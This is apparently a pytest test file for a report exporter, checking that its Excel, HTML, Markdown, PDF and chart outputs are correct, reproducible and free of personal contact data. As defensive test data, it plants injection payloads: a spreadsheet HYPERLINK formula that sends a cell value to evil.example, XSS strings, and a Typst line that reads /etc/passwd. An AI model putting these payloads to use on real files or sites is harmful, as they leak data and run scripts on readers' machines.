"""Every form of a report: right values, harmless words, nobody named, the same bytes twice."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from functools import cache
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from footprint.errors import UsageError
from footprint.outlets import KINDS, file_of
from footprint.outlets.markdown import words
from footprint.outlets.pictures import png, svg
from footprint.review.frames import Sheet
from footprint.review.private import SMALLEST, for_strangers
from footprint.review.report import Report, Row, report_of
from footprint.text import LANGS, Lang
from hypothesis import given
from hypothesis import strategies as st

from .shops import NASTY, WEEK, opened

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =")


@cache
def base(folder: str) -> Report:
    workspace = opened(Path(folder))
    return report_of(workspace.brief(WEEK), workspace.settings)


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
    return base(str(tmp_path_factory.mktemp("shop")))


def planted(report: Report, texts: list[str]) -> Report:
    """The report with texts in a table, in remarks, in an action, in words and in a heading."""
    pairs = [[text, 12] for text in texts]
    sheet: Sheet = {"columns": [["name", "text"], ["orders", "int"], [texts[0], "int"]],
                    "rows": [[*pair, 9] for pair in pairs]}  # fmt: skip
    first: Row = {
        **report["findings"][0],
        "problem": {"zh": texts[0], "en": texts[0]},
        "evidence": sheet,
        "remarks": [{"at": "2026-11-16", "who": texts[0], "words": text} for text in texts[:40]],
        "tasks": [
            {"title": {"zh": text, "en": text}, "owner": text, "due": None, "impact": "low",
             "stage": "do", "overdue": False, "verdict": None, "fate": None, "note": text,
             "standard": text}
            for text in texts[:5]
        ],
    }  # fmt: skip
    return {**report, "findings": [first, *report["findings"][1:]]}


def said(kind: str, content: bytes) -> str:
    """All words of a file."""
    if kind == "xlsx":
        cells = (c.value for s in openpyxl.load_workbook(BytesIO(content)) for r in s for c in r)
        return "\n".join(str(value) for value in cells if value is not None)
    if kind == "charts":
        with zipfile.ZipFile(BytesIO(content)) as pack:
            parts = [pack.read(name).decode() for name in pack.namelist() if name.endswith("svg")]
        return "\n".join(parts)
    if kind == "pdf":
        found = subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True)
        return found.stdout.decode()
    return content.decode()


READABLE = [kind for kind in KINDS if kind != "pdf" or shutil.which("pdftotext")]


@pytest.mark.parametrize("lang", LANGS)
@pytest.mark.parametrize("kind", READABLE)
def test_each_form_says_what_matters(report: Report, kind: str, lang: Lang) -> None:
    text = re.sub(r"\s", "", said(kind, file_of(report, kind, lang)))
    if kind == "charts":
        assert "2026-W46" in text
        return
    assert "2026-W46" in text
    assert "31%" in text or "0.31" in text
    assert ("物流" in text) == (lang == "zh")


@pytest.mark.parametrize("kind", KINDS)
def test_equal_reports_are_equal_files(report: Report, kind: str) -> None:
    assert file_of(report, kind, "zh") == file_of(report, kind, "zh")


def test_numbers_of_the_workbook_are_numbers(report: Report) -> None:
    book = openpyxl.load_workbook(BytesIO(file_of(report, "xlsx", "en")))
    head, first = list(book["Brief"].iter_rows(max_row=2))
    titles = [cell.value for cell in head]
    cell = first[titles.index("Impact (CNY)")]
    assert cell.data_type == "n" and cell.number_format == "¥#,##0"
    assert cell.value == report["findings"][0]["impact_cny"]
    rates = [r for r in book["Core numbers"].iter_rows(min_row=2) if "%" in r[1].number_format]
    assert rates and all(0 <= row[1].value <= 1 for row in rates)


@pytest.mark.parametrize("lang", LANGS)
def test_no_cell_is_a_formula_or_a_link(report: Report, lang: Lang) -> None:
    texts = [f"{start}1+1" for start in STARTS] + [FORMULA, "http://evil.example/"]
    for bad in (FORMULA, *texts):
        book = openpyxl.load_workbook(
            BytesIO(file_of(planted(report, [bad, *texts]), "xlsx", lang))
        )
        for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f" and cell.hyperlink is None
            if isinstance(cell.value, str):
                assert not cell.value.lstrip().startswith(("=", "+", "@", "＝", "＋", "＠"))


@pytest.mark.parametrize(
    "evil",
    [NASTY, "<img src=x onerror=alert(1)>", "</style><script>1</script>", "\"'><svg onload=1>"],
)
def test_words_of_the_data_never_become_markup(report: Report, evil: str) -> None:
    bad = planted(report, [evil])
    for shown in (bad, for_strangers(bad)):
        page = file_of(shown, "html", "en").decode()
        assert "<script" not in page and "<img" not in page and "<svg onload" not in page
        assert page.count("</style>") == 1
        drawn = "".join(svg(row, "en", "UTC") for row in shown["findings"])
        assert "<script" not in drawn and "<img" not in drawn
        assert "<" not in file_of(shown, "md", "en").decode()
        assert file_of(shown, "pdf", "en").startswith(b"%PDF")


def test_typst_takes_words_as_words(report: Report) -> None:
    bad = '#panic("read") #read("/etc/passwd") $x$ *b* #import "@preview/x:1.0.0"'
    content = file_of(planted(report, [bad]), "pdf", "en")
    assert content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        text = re.sub(r"\s", "", said("pdf", content))
        assert '#panic("read")' in text and "root:" not in text


@given(st.text(min_size=1, max_size=60))
def test_markdown_shows_text_as_it_is(text: str) -> None:
    out = words(text)
    assert "\n" not in out
    assert not re.search(r"(?<!\\)[<>\[\]|`]", out)
    assert not re.match(r"#|[-+=@>]|\d+[.)](\s|$)", out)


def test_markdown_leaves_numbers_alone() -> None:
    assert [words(text) for text in ("4.8%", "1. x", "-3", "2)")] == [
        "4.8%",
        "1\\. x",
        "\\-3",
        "2\\)",
    ]


def contacts(count: int) -> list[str]:
    """Made-up phones, identity numbers and mail addresses in sentences."""
    kinds = (
        lambda i: f"1{3 + i % 7}{(i * 7919 + 10**8) % 10**9:09d}",
        lambda i: f"{110101 + i % 500}19{50 + i % 49}0{1 + i % 9}1{i % 9}{i % 1000:03d}X",
        lambda i: f"buyer{i}@mail{i % 9}.example.cn",
    )
    return [kinds[i % 3](i) for i in range(count)]


@pytest.mark.parametrize("kind", READABLE)
def test_none_of_ten_thousand_personal_values_leaves(report: Report, kind: str) -> None:
    count = 10_000 if kind in ("xlsx", "html") else 600
    values = contacts(count)
    texts = [f"请联系 {value} 谢谢" for value in values]
    bad = planted(report, texts)
    for shown in (bad, for_strangers(bad)):
        text = said(kind, file_of(shown, kind, "zh"))
        assert not [value for value in values if value in text]


def test_every_contact_is_masked_and_nothing_else(report: Report) -> None:
    from footprint.review.private import without_contacts

    values = contacts(10_000)
    clean = without_contacts(planted(report, [f"call {value} now" for value in values]))
    sheet = clean["findings"][0]["evidence"]
    assert sheet
    shown = [row[0] for row in sheet["rows"]]
    assert not [v for v, text in zip(values, shown, strict=True) if v in text]
    assert all(text.startswith("call ") and text.endswith(" now") for text in shown)
    assert without_contacts(report) == report


def test_strangers_see_no_small_group_no_quote_and_no_way_in(report: Report) -> None:
    sheet: Sheet = {
        "columns": [["user_id", "text"], ["example", "text"], ["group", "text"], ["orders", "int"]],
        "rows": [["u1", "hello", f"g{n}", n] for n in range(12)],
    }
    first: Row = {**report["findings"][0], "evidence": sheet}
    seen = for_strangers({**report, "findings": [first]})
    shown = seen["findings"][0]["evidence"]
    assert shown and [name for name, _ in shown["columns"]] == ["group", "orders"]
    counts = [row[1] for row in shown["rows"]]
    assert counts == [0, *range(SMALLEST, 12)]
    assert seen["findings"][0]["link"] == "" and seen["settings"] == {}
    assert "href" not in file_of(seen, "html", "zh", "http://127.0.0.1").decode()


def test_a_chart_has_chinese_letters_without_fonts_of_the_machine(report: Report) -> None:
    drawing = svg(report["findings"][0], "zh", "UTC")
    assert drawing.startswith("<svg xmlns=") and png(drawing).startswith(b"\x89PNG")
    pdf = file_of(report, "pdf", "zh")
    assert b"FootprintSansSC" in pdf


def test_an_unknown_form_names_the_known(report: Report) -> None:
    with pytest.raises(UsageError, match="pdf"):
        file_of(report, "docx", "en")
